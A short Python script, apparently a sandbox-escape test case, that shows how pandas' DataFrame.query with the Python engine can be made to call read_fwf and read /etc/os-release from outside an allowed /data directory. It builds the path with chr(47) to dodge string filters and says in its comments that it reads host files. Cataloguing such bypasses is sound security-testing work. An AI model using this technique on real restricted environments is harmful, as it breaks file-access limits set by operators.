# source: pandas 1.5.3 expr.py BaseExprVisitor.visit_Call (parentheses/whitespace around @name vanish in the AST); pandas read_fwf
# family: DataFrame.query "( @f )( ... )" spaced call form, engine="python", nested calls
# goal: reads /etc/os-release (a host-image file outside /data) with pandas.read_fwf inside query()
import pandas as pd
from pandas import read_fwf
df = pd.DataFrame({"a": [1, 2, 3]})
q = chr(47) + "etc" + chr(47) + "os-release"


def show(x):
    print(x.head(3).to_string())
    return 0


df.query("a > ( @show )( ( @read_fwf )( @q ) )", engine="python")
